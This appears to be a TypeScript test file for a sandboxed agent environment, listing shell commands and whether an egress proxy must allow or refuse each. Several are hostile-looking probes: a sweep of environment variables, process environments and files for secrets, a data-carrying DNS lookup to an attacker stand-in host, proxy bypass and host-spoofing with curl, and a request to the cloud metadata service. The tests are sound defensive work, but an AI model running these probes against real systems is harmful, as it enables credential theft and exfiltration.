/** What the agent is told to do in the cell, and what must come of each. */
import { ADDRESSES } from './stand-in';

export interface Step {
  readonly name: string;
  /** One line of shell. */
  readonly command: string;
  /** `allowed`: must succeed. `refused`: must fail. `look`: its output is searched for secrets. */
  readonly expected: 'allowed' | 'refused' | 'look';
}

const MESSAGE = `-H 'content-type: application/json' -d '{"model":"stand-in","max_tokens":9,"messages":[]}'`;
/** Past the proxy variables: the name itself leads to the proxy. */
const UNAWARE = "--noproxy '*'";
const CURL = 'curl -sSf -m9 -o /dev/null';
/** Fails only when the proxy's own refusal came back, which it shows. */
const told = (words: string) => `! curl -sS -m9 ${words} | grep '"anchorhold"' >&2`;

/** `authority` is the path of the certificate that signs the stand-in sites, for the host the proxy doesn't look into. */
export function stepsOf(authority: string): readonly Step[] {
  return [...ALLOWED, passthrough(authority), ...LOOKS, ...REFUSED];
}

const ALLOWED: readonly Step[] = [
  {
    name: 'model call by a client that knows of no proxy, with a key of its own',
    command: `${CURL} ${UNAWARE} -H 'x-api-key: foreign' ${MESSAGE} https://api.model.example/v1/messages`,
    expected: 'allowed',
  },
  {
    name: 'model call through the proxy variables',
    command: `${CURL} ${MESSAGE} https://api.model.example/v1/messages`,
    expected: 'allowed',
  },
  {
    name: 'clone of acme/design',
    command: 'git clone -q https://git.example/acme/design.git /tmp/design',
    expected: 'allowed',
  },
  {
    name: 'push to acme/web',
    command:
      'git clone -q https://git.example/acme/web.git /tmp/web && git -C /tmp/web push -q origin HEAD:refs/heads/from-the-cell',
    expected: 'allowed',
  },
];

function passthrough(authority: string): Step {
  return {
    name: 'package download, end to end encrypted',
    command: `${CURL} --cacert ${authority} https://packages.example/anchor/-/anchor-1.0.0.tgz`,
    expected: 'allowed',
  };
}

const LOOKS: readonly Step[] = [
  {
    name: 'a search of the environment, other processes and every readable file',
    command:
      "env; cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'; grep -rsIE '^(demo|git)-' /etc /home /run /tmp /var 2>/dev/null; true",
    expected: 'look',
  },
];

const REFUSED: readonly Step[] = [
  {
    name: 'push to acme/design, which may only be cloned',
    command: 'git -C /tmp/design push -q origin HEAD:refs/heads/from-the-cell',
    expected: 'refused',
  },
  {
    name: 'another path of the model host',
    command: told('https://api.model.example/v1/files'),
    expected: 'refused',
  },
  {
    name: 'the allowed path with its dots written another way',
    command: told(`--path-as-is ${MESSAGE} https://api.model.example/v1/files/../messages`),
    expected: 'refused',
  },
  {
    name: 'a host the policy does not list, through the proxy',
    command: `${CURL} https://unlisted.example/`,
    expected: 'refused',
  },
  {
    name: 'that host under the name of one that is listed',
    command: `${CURL} ${UNAWARE} -k --connect-to api.model.example:443:${ADDRESSES.unlisted}:443 ${MESSAGE} https://api.model.example/v1/messages`,
    expected: 'refused',
  },
  {
    name: 'a connection past the proxy',
    command: `curl -sS -m3 ${UNAWARE} http://${ADDRESSES.nobody}/`,
    expected: 'refused',
  },
  { name: 'a DNS lookup that carries data', command: 'getent hosts secret.attacker.example', expected: 'refused' },
  {
    name: 'the metadata service',
    command: `curl -sS -m3 ${UNAWARE} http://${ADDRESSES.metadata}/latest/meta-data/`,
    expected: 'refused',
  },
];
